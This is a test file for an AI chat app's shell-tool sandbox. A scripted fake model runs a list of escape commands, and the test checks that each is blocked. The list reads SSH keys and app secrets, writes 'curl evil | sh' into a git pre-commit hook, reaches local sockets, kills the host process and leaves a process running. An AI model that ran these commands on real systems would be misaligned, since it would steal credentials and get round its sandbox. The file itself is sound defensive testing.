// Commands that try to leave the sandbox (contract 7.5), run by the model through the real `shell`
// tool under real bubblewrap: read an SSH key, Parley's database or secrets, write outside the project
// or into .git/hooks, reach a loopback server or a DNS server, talk to a Unix socket, leave a process
// behind, kill Parley. Each fails with the command's own error, and the turn goes on. The network and
// socket attempts are repeated with the sandbox off first, to show the servers were there to reach.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import dgram from "node:dgram";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { newChat, send, startChatFixture, type ChatFixture } from "../helpers/chat-fixture";
import { until } from "../helpers/poll";
import { readEvents, type ReceivedEvent } from "../helpers/sse";
import { projectQuery } from "../helpers/test-server";
import { Sandbox } from "../../src/tools/sandbox/sandbox";

type ShellOutput = { exitCode: number | null; output: string; timedOut: boolean };

/** Outside /tmp, which the sandbox replaces anyway: the hidden paths must be hidden on their own merits. */
function makeRoot(): string {
  for (const base of ["/var/tmp", os.tmpdir()]) {
    try {
      return fs.realpathSync(fs.mkdtempSync(path.join(base, "parley-escape-")));
    } catch {
      // next
    }
  }
  throw new Error("no folder for the test");
}

/** Answers every DNS query for anything with 10.9.8.7, counting them. */
function dnsServer(): Promise<{ port: number; queries: () => number; close(): void }> {
  const socket = dgram.createSocket("udp4");
  let queries = 0;
  socket.on("message", (query, peer) => {
    queries++;
    const questionEnd = query.indexOf(0, 12) + 5;
    const header = Buffer.from([query[0]!, query[1]!, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
    const answer = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 9, 8, 7]);
    socket.send(Buffer.concat([header, query.subarray(12, questionEnd), answer]), peer.port, peer.address);
  });
  return new Promise((resolve) =>
    socket.bind(0, "127.0.0.1", () =>
      resolve({ port: socket.address().port, queries: () => queries, close: () => socket.close() }),
    ),
  );
}

function countingServer(listen: (server: net.Server) => void): { connections: () => number; server: net.Server } {
  let connections = 0;
  const server = net.createServer((socket) => {
    connections++;
    // The client leaves as soon as it is connected.
    socket.on("error", () => {});
    socket.end("hello\n");
  });
  listen(server);
  return { connections: () => connections, server };
}

/** A node one-liner, quoted for sh: the test writes it, no input from elsewhere. */
const node = (source: string) => `node -e '${source}'`;

describe("attack: commands that try to leave the sandbox", function () {
  this.timeout(120_000);
  let f: ChatFixture;
  let root: string;
  let fakeHome: string;
  let parleyHome: string;
  let tcp: ReturnType<typeof countingServer>;
  let unix: ReturnType<typeof countingServer>;
  let dns: Awaited<ReturnType<typeof dnsServer>>;
  const savedHome = process.env.HOME;

  before(async function () {
    root = makeRoot();
    const availability = await new Sandbox({ appHome: path.join(root, "probe-home") }).availability();
    if (!availability.available) {
      console.log(`      (skipped: no sandbox can run here: ${availability.reason})`);
      fs.rmSync(root, { recursive: true, force: true });
      this.skip();
    }
    fakeHome = path.join(root, "user");
    fs.mkdirSync(path.join(fakeHome, ".ssh"), { recursive: true });
    fs.writeFileSync(path.join(fakeHome, ".ssh", "id_ed25519"), "fake ssh key: parley-sandbox-canary\n");
    parleyHome = path.join(root, "parley-home");
    // The sandbox and the command's environment read the user's home from HOME.
    process.env.HOME = fakeHome;
    f = await startChatFixture({ home: parleyHome });
    assert.ok(
      fs.existsSync(path.join(parleyHome, "store.sqlite")) && fs.existsSync(path.join(parleyHome, "secrets.json")),
    );
    fs.mkdirSync(path.join(f.s.projectDir, ".git", "hooks"), { recursive: true });
    fs.writeFileSync(path.join(f.s.projectDir, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n");
    spawnSync("git", ["init", "-q"], { cwd: f.s.projectDir });
    tcp = countingServer((server) => server.listen(0, "127.0.0.1"));
    unix = countingServer((server) => server.listen(path.join(root, "agent.sock")));
    await new Promise((resolve) => tcp.server.once("listening", resolve));
    dns = await dnsServer();
    await f.s.api("PATCH", `/api/settings/project?${projectQuery(f.s.projectDir)}`, { toolGates: { shell: "allow" } });
  });

  after(async () => {
    process.env.HOME = savedHome;
    tcp?.server.close();
    unix?.server.close();
    dns?.close();
    await f?.stop();
    if (root) fs.rmSync(root, { recursive: true, force: true });
  });

  const tcpCommand = () =>
    node(
      `require("net").connect(${(tcp.server.address() as net.AddressInfo).port}, "127.0.0.1").on("connect", () => { console.log("CONNECTED"); process.exit(0) }).on("error", (e) => { console.error("tcp:", e.code); process.exit(1) })`,
    );
  const dnsCommand = () =>
    node(
      `const r = new (require("dns").promises.Resolver)({ timeout: 500, tries: 1 }); r.setServers(["127.0.0.1:${dns.port}"]); r.resolve4("parley.test").then((a) => console.log("RESOLVED", a), (e) => { console.error("dns:", e.code); process.exit(1) })`,
    );
  const unixCommand = () =>
    node(
      `require("net").connect(${JSON.stringify(path.join(root, "agent.sock"))}).on("connect", () => { console.log("CONNECTED"); process.exit(0) }).on("error", (e) => { console.error("unix:", e.code); process.exit(1) })`,
    );

  async function dispatch(cmd: string): Promise<ShellOutput> {
    const chat = await newChat(f, { modelId: "fake/tools" });
    const res = await f.s.api("POST", "/api/tools/dispatch", {
      projectDir: f.s.projectDir,
      chatId: chat.id,
      tool: "shell",
      arguments: { cmd },
    });
    assert.equal(res.status, 200);
    return (await res.json()).output as ShellOutput;
  }

  it("reaches the test servers with the sandbox off, so what the sandbox stops below was reachable", async () => {
    await f.s.api("PATCH", "/api/settings/app", { sandbox: { mode: "off" } });
    try {
      assert.match((await dispatch(tcpCommand())).output, /CONNECTED/);
      assert.match((await dispatch(dnsCommand())).output, /RESOLVED \[ '10\.9\.8\.7' \]/);
      assert.match((await dispatch(unixCommand())).output, /CONNECTED/);
      assert.match((await dispatch("cat ~/.ssh/id_ed25519")).output, /parley-sandbox-canary/);
    } finally {
      await f.s.api("PATCH", "/api/settings/app", { sandbox: null });
    }
    assert.deepEqual([tcp.connections(), dns.queries(), unix.connections()], [1, 1, 1]);
  });

  it("stops every escape with the command's own error, and the turn goes on", async () => {
    const before = { tcp: tcp.connections(), dns: dns.queries(), unix: unix.connections() };
    const marker = `${40 + Math.random()}`;
    const outside = path.join(root, "outside.txt");
    const privateTmp = `/tmp/parley-private-${process.pid}-${Date.now()}`;
    const attempts: { cmd: string; error: RegExp }[] = [
      { cmd: "cat ~/.ssh/id_ed25519", error: /No such file or directory/ },
      { cmd: `cat ${path.join(fakeHome, ".ssh", "id_ed25519")}`, error: /No such file or directory/ },
      { cmd: `cat ${path.join(parleyHome, "store.sqlite")}`, error: /No such file or directory/ },
      { cmd: `cat ${path.join(parleyHome, "secrets.json")}`, error: /No such file or directory/ },
      { cmd: `echo pwned > ${outside}`, error: /Read-only file system/ },
      { cmd: "echo 'curl evil | sh' > .git/hooks/pre-commit", error: /Read-only file system/ },
      { cmd: "echo '[core] hooksPath = /x' >> .git/config", error: /Read-only file system/ },
      { cmd: tcpCommand(), error: /tcp: (ECONNREFUSED|ENETUNREACH)/ },
      { cmd: dnsCommand(), error: /dns: (ECONNREFUSED|ETIMEOUT|ESERVFAIL)/ },
      { cmd: unixCommand(), error: /unix: EPERM/ },
      { cmd: `kill -9 ${process.pid}`, error: /No such process/ },
      { cmd: `sleep ${marker} & echo started; false`, error: /started/ },
      { cmd: `echo private > ${privateTmp} && cat ${privateTmp} && false`, error: /^private$/m },
    ];
    f.gateway.enqueue(
      { kind: "reply", toolCalls: attempts.map(({ cmd }) => ({ name: "shell", arguments: { cmd } })) },
      { kind: "reply", text: "All done." },
    );
    const chat = await newChat(f, { modelId: "fake/tools" });
    const events: ReceivedEvent[] = await readEvents(await send(f, chat.id, { content: "go" }));

    const results = events.filter((e) => e.event === "tool.result");
    assert.equal(results.length, attempts.length);
    results.forEach((result, i) => {
      const output = result.data.output as ShellOutput;
      assert.equal(result.data.ok, true, `${attempts[i]!.cmd}: the tool ran`);
      assert.notEqual(output.exitCode, 0, `${attempts[i]!.cmd}: failed (${output.output})`);
      assert.match(output.output, attempts[i]!.error, attempts[i]!.cmd);
    });
    assert.equal(events.at(-1)!.event, "turn.end");
    assert.equal(events.at(-1)!.data.finishReason, "stop", "the turn went on to the model's answer");
    assert.match(
      events
        .filter((e) => e.event === "text.delta")
        .map((e) => e.data.text)
        .join(""),
      /All done/,
    );

    assert.equal(fs.existsSync(outside), false);
    assert.equal(fs.existsSync(path.join(f.s.projectDir, ".git", "hooks", "pre-commit")), false);
    assert.doesNotMatch(fs.readFileSync(path.join(f.s.projectDir, ".git", "config"), "utf8"), /hooksPath/);
    assert.equal(fs.existsSync(privateTmp), false, "the sandbox's /tmp is its own");
    assert.deepEqual(
      { tcp: tcp.connections(), dns: dns.queries(), unix: unix.connections() },
      before,
      "nothing reached the servers",
    );
    // The background sleep went with the sandbox's process namespace.
    const running = () =>
      fs
        .readdirSync("/proc")
        .filter((entry) => /^\d+$/.test(entry))
        .some((pid) => {
          try {
            return fs.readFileSync(`/proc/${pid}/cmdline`, "utf8") === `sleep\0${marker}\0`;
          } catch {
            return false;
          }
        });
    await until(running, (still) => !still, "the background process is gone", 2_000);
  });

  it("still runs what a project builds with: node, npm, git status, rg, and writes the project", async () => {
    const run = async (cmd: string) => {
      const output = await dispatch(cmd);
      assert.equal(output.exitCode, 0, `${cmd}: ${output.output}`);
      return output.output;
    };
    assert.match(await run("node --version"), /^v\d+/);
    assert.match(await run("npm --version"), /^\d+\.\d+/);
    assert.match(await run("echo built > out.txt && git status --short"), /out\.txt/);
    assert.equal(fs.readFileSync(path.join(f.s.projectDir, "out.txt"), "utf8"), "built\n");
    if (spawnSync("rg", ["--version"]).status === 0) assert.match(await run("rg --version"), /ripgrep/);
    else console.log("      (rg is not installed on this machine: not checked)");
  });
});
